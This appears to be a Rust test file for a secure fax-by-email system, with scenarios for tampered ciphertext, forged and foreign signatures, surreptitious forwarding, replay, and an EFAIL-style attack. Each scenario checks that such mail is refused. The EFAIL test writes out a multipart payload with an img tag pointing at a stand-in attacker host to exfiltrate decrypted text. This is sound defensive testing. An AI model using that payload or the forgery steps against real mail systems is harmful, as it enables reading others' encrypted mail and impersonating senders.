//! Mails that are not what they say: changed on the way, signed by others, passed on, sent again (ST914-ST920). Nothing
//! of them reaches the machine, and nothing is confirmed.

use sealfax_drivers::display::ScreenKind;
use sealfax_ifax::Page;
use sealfax_mailserver::authority::{Authority, AuthorityOptions};

use super::{
    administrator_clears, confirmations, confirmed, hanako_takes, nothing_came_of_it, one_arrives, plan, power,
    press_receive, reports, rightful_flow, shows, still_waiting,
};
use crate::bench::attacker::{Attacker, Envelope, cms, with_cms};
use crate::bench::people::{HANAKO, JIRO, Person, TARO};
use crate::bench::region::Region;
use crate::bench::site::PATIENCE;
use crate::events::{Event, EventKind};
use crate::scenario::stories::{note, receives, taro_sends};
use crate::scenario::{Bench, DEADLINE, Failure, Scenario, expect};

/// The mail that Taro's adapter last sealed, as it went over the wire.
pub(super) fn sealed_on_the_wire(region: &Region) -> Result<Vec<u8>, Failure> {
    let sent = region.sent_mails();
    let sealed = sent.into_iter().rfind(|mail| mail.from == "adapter-a" && mail.to == "mail-a");
    sealed.map(|mail| mail.octets).ok_or_else(|| Failure::expectation("a sealed mail on the wire"))
}

/// The mail is delivered to Hanako and refused at the card with this code; the administrator takes it away.
pub(super) async fn refused_as(
    region: &Region,
    attacker: &Attacker,
    mail: &[u8],
    kind: ScreenKind,
    code: &str,
) -> Result<(), Failure> {
    let (b, hanako, before) = (region.site('b')?, region.person(HANAKO)?, confirmations(region));
    still_waiting(region, 0)?;
    attacker.deliver(region, mail, TARO.address, &hanako).await?;
    b.sees(ScreenKind::Arrived).await?;
    b.identify(&hanako, ScreenKind::PressReceive).await?;
    let printed = press_receive(b).await?;
    shows(region, kind, code).await?;
    nothing_came_of_it(region, &printed, before, 1)?;
    b.lamp(true).await?;
    b.pull(&hanako);
    // It was shown; the person can do no more about it. The mail server speaks of it again in its own time.
    b.sees(ScreenKind::Idle).await?;
    administrator_clears(region, &hanako).await
}

/// ST916.
pub const CIPHERTEXT: Scenario = Scenario {
    name: "tampered-ciphertext",
    title: "One flipped bit in content, wrapped key, nonce or tag: cannot be opened, one code for all",
    requirements: &["ST914", "ST915", "ST916", "A5", "early-release", "padding-oracle"],
    deadline: DEADLINE,
    run: |bench| Box::pin(ciphertext(bench)),
};

async fn ciphertext(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    rightful_flow(&region).await?;
    let attacker = Attacker::new(&region)?;
    let sealed = sealed_on_the_wire(&region)?;
    let octets = cms(&sealed)?;
    let parts = Envelope::read(&octets).ok_or_else(|| Failure::expectation("the sealed mail is one envelope"))?;
    let places =
        [parts.content.start, parts.content.end - 1, parts.wrapped_key.end - 1, parts.nonce.start, parts.tag.start];
    for place in places {
        let mut changed = octets.clone();
        if let Some(octet) = changed.get_mut(place) {
            *octet ^= 0x01;
        }
        refused_as(&region, &attacker, &with_cms(&sealed, &changed)?, ScreenKind::CannotOpen, "OPEN-016").await?;
    }
    // Cut short, it is no envelope at all.
    let half = octets.get(..octets.len() / 2).unwrap_or_default();
    refused_as(&region, &attacker, &with_cms(&sealed, half)?, ScreenKind::CannotOpen, "OPEN-013").await?;
    rightful_flow(&region).await
}

/// ST920, origin.
pub const FOREIGN_SIGNATURE: Scenario = Scenario {
    name: "foreign-signature",
    title: "Another person's card, or another authority's, signs what says it is from Taro: not genuine",
    requirements: &["ST917", "ST918", "ST919", "ST920", "early-release"],
    deadline: DEADLINE,
    run: |bench| Box::pin(foreign_signature(bench)),
};

async fn foreign_signature(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    let attacker = Attacker::new(&region)?;
    let (hanako, jiro) = (region.person(HANAKO)?, region.person(JIRO)?);
    let fax = attacker.fax(TARO.address, HANAKO.address, &note("from Taro, really"))?;

    // Jiro has a good card of his own; it does not speak for Taro.
    let entity = attacker.seal(&fax, &jiro, &hanako).await?;
    let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "OPEN-023").await?;

    // As himself outside and as Taro inside: what she would read is not who signed.
    let mail = attacker.mail(JIRO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "RECV-006").await?;

    // An authority nobody here trusts has issued a card in Taro's name.
    let folder = tempfile::tempdir().map_err(Failure::infrastructure)?;
    let (place, seams) = (folder.path().join("authority"), region.stranger("another-authority")?);
    let forged = tokio::task::spawn_blocking(move || {
        let other = Authority::create(&place, &AuthorityOptions::default(), &seams).map_err(Failure::infrastructure)?;
        Person::issue(TARO, 78, &other)
    });
    let forged = forged.await.map_err(Failure::infrastructure)??;
    let entity = attacker.seal(&fax, &forged, &hanako).await?;
    let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "OPEN-023").await?;

    // Somebody of whom the certificate server has never heard.
    let mail = attacker.mail("nobody@a.example", HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "RECV-003").await?;
    rightful_flow(&region).await
}

/// ST920, integrity.
pub const TAMPERED_SIGNATURE: Scenario = Scenario {
    name: "tampered-signature",
    title: "The content is changed after it was signed, or was never signed: not genuine",
    requirements: &["ST918", "ST919", "ST920", "early-release"],
    deadline: DEADLINE,
    run: |bench| Box::pin(tampered_signature(bench)),
};

async fn tampered_signature(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    let attacker = Attacker::new(&region)?;
    let hanako = region.person(HANAKO)?;
    // Whoever got hold of her decryption key can read what Taro signed, and seal anything for her; not sign for him.
    rightful_flow(&region).await?;
    let signed = attacker.open(&sealed_on_the_wire(&region)?, &hanako)?;

    // One character of the document, and one of the signature's own attributes and value.
    let octets = cms(&signed)?;
    let subject = find(&octets, b"Subject:").ok_or_else(|| Failure::expectation("the signed mail has a Subject"))?;
    for (place, code) in [(subject + b"Subject: ".len(), "OPEN-027"), (octets.len() - 8, "OPEN-028")] {
        let mut changed = octets.clone();
        if let Some(octet) = changed.get_mut(place) {
            *octet ^= 0x01;
        }
        let entity = attacker.envelope(&with_cms(&signed, &changed)?, &hanako)?;
        let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
        refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, code).await?;
    }

    // Encrypted and never signed: anybody can do that.
    let fax = attacker.fax(TARO.address, HANAKO.address, &note("pay 1000 to the attacker"))?;
    let entity = attacker.envelope(&fax, &hanako)?;
    let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "OPEN-020").await?;

    // EFAIL: what Taro signed as one part among the attacker's own.
    let mut wrapped = b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n\
        <img src=\"http://attacker/\r\n--x\r\n"
        .to_vec();
    wrapped.extend_from_slice(&signed);
    wrapped.extend_from_slice(b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n");
    let entity = attacker.envelope(&wrapped, &hanako)?;
    let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "OPEN-020").await?;
    rightful_flow(&region).await
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(haystack, needle)
}

/// What Taro sealed for one is passed on to another.
pub const FORWARDED: Scenario = Scenario {
    name: "surreptitious-forwarding",
    title: "Jiro seals what Taro signed for him anew, for Hanako: refused, Taro never meant it for her",
    requirements: &["ST919", "ST920", "certificate-substitution"],
    deadline: DEADLINE,
    run: |bench| Box::pin(forwarded(bench)),
};

async fn forwarded(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    let attacker = Attacker::new(&region)?;
    let (hanako, jiro) = (region.person(HANAKO)?, region.person(JIRO)?);
    taro_sends(&region, &[JIRO.address], &note("you are dismissed")).await?;
    region.site('b')?.sees(ScreenKind::Arrived).await?;
    let sealed = sealed_on_the_wire(&region)?;
    receives(&region, 'b', &jiro).await?;
    confirmed(&region, 1).await?;
    reports(&region, 1).await?;

    // As Taro's own adapter would address it, and with every outer field the attacker's.
    let entity = attacker.envelope(&attacker.open(&sealed, &jiro)?, &hanako)?;
    let mail = attacker.mail(TARO.address, HANAKO.address, &entity);
    refused_as(&region, &attacker, &mail, ScreenKind::NotGenuine, "OPEN-030").await?;
    // The sealed mail itself, brought to the wrong person, has nothing in it for her card.
    refused_as(&region, &attacker, &sealed, ScreenKind::CannotOpen, "OPEN-015").await?;
    rightful_flow(&region).await
}

/// A bad mail does not keep a good one from its reader.
pub const ONE_BAD_ONE_GOOD: Scenario = Scenario {
    name: "one-tampered-one-good",
    title: "A tampered and a good mail in one mailbox: the good one is printed and confirmed, the bad one kept and shown",
    requirements: &["ST916", "ST921", "ST922"],
    deadline: DEADLINE,
    run: |bench| Box::pin(one_bad_one_good(bench)),
};

async fn one_bad_one_good(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    let attacker = Attacker::new(&region)?;
    let (b, hanako) = (region.site('b')?, region.person(HANAKO)?);
    let pages: Vec<Page> = note("the good one");
    one_arrives(&region, &pages).await?;
    let sealed = sealed_on_the_wire(&region)?;
    let mut octets = cms(&sealed)?;
    if let Some(last) = octets.last_mut() {
        *last ^= 0x01;
    }
    attacker.deliver(&region, &with_cms(&sealed, &octets)?, TARO.address, &hanako).await?;
    still_waiting(&region, 2)?;

    b.identify(&hanako, ScreenKind::PressReceive).await?;
    let printed = press_receive(b).await?;
    shows(&region, ScreenKind::CannotOpen, "OPEN-016").await?;
    expect(printed.len() == 1 && printed.iter().all(|document| document.pages == pages), "the good one is printed")?;
    confirmed(&region, 1).await?;
    reports(&region, 1).await?;
    still_waiting(&region, 1)?;
    // The mail server has noticed that something is left and says so; the refusal stays on the screen all the same.
    let mut notices = 0;
    let second = |event: &Event| {
        let notice = matches!(&event.kind, EventKind::Step { ids } if ids.contains(&"ST902"));
        notices += usize::from(notice && event.host == "adapter-b");
        notices == 2
    };
    region.log.wait_for("the second notice", PATIENCE, second).await?;
    shows(&region, ScreenKind::CannotOpen, "OPEN-016").await?;
    // Asked again with another PIN, the bad one is judged again, and nothing is printed or confirmed a second time.
    b.pull(&hanako);
    b.identify(&hanako, ScreenKind::PressReceive).await?;
    nothing_came_of_it(&region, &press_receive(b).await?, 1, 1)?;
    shows(&region, ScreenKind::CannotOpen, "OPEN-016").await?;
    b.pull(&hanako);
    b.sees(ScreenKind::Idle).await?;
    administrator_clears(&region, &hanako).await?;
    rightful_flow(&region).await
}

/// The same sealed mail again.
pub const REPLAYED: Scenario = Scenario {
    name: "replay",
    title: "A stranger brings the same sealed mail again, twice: printed only with the mark, registered only once",
    requirements: &["ST921", "C12", "replay"],
    deadline: DEADLINE,
    run: |bench| Box::pin(replayed(bench)),
};

async fn replayed(bench: Bench) -> Result<(), Failure> {
    let region = Region::start(&bench, plan()).await?;
    let attacker = Attacker::new(&region)?;
    let (b, hanako) = (region.site('b')?, region.person(HANAKO)?);
    let pages = note("pay 100, once");
    one_arrives(&region, &pages).await?;
    let sealed = sealed_on_the_wire(&region)?;
    hanako_takes(&region, &[&pages]).await?;

    // Once as it was, once with every outer field changed: what Taro signed inside is the same.
    attacker.deliver(&region, &sealed, TARO.address, &hanako).await?;
    let text = String::from_utf8_lossy(&sealed).into_owned();
    let entity = text.find("Content-Type:").and_then(|at| text.get(at..)).unwrap_or_default();
    let other = attacker.mail(TARO.address, HANAKO.address, entity.as_bytes());
    attacker.deliver(&region, &other, TARO.address, &hanako).await?;
    b.sees(ScreenKind::Arrived).await?;
    let printed = receives(&region, 'b', &hanako).await?;
    expect(printed.len() == 2, format!("both are printed, not {}", printed.len()))?;
    for document in &printed {
        expect(document.pages == pages, "with the same pages")?;
        expect(power::is_marked(&document.mail), "each says that it may have been printed before")?;
    }
    // Taro's adapter knows the first confirmation from the others: the history still has one line.
    let mark = "adapter-a";
    let again = |event: &Event| event.host == mark && event.text.contains("came again");
    region.log.wait_for("adapter-a refuses a second confirmation", PATIENCE, again).await?;
    expect(region.history().len() == 1, "one transmission is one line in the history")?;
    still_waiting(&region, 0)
}
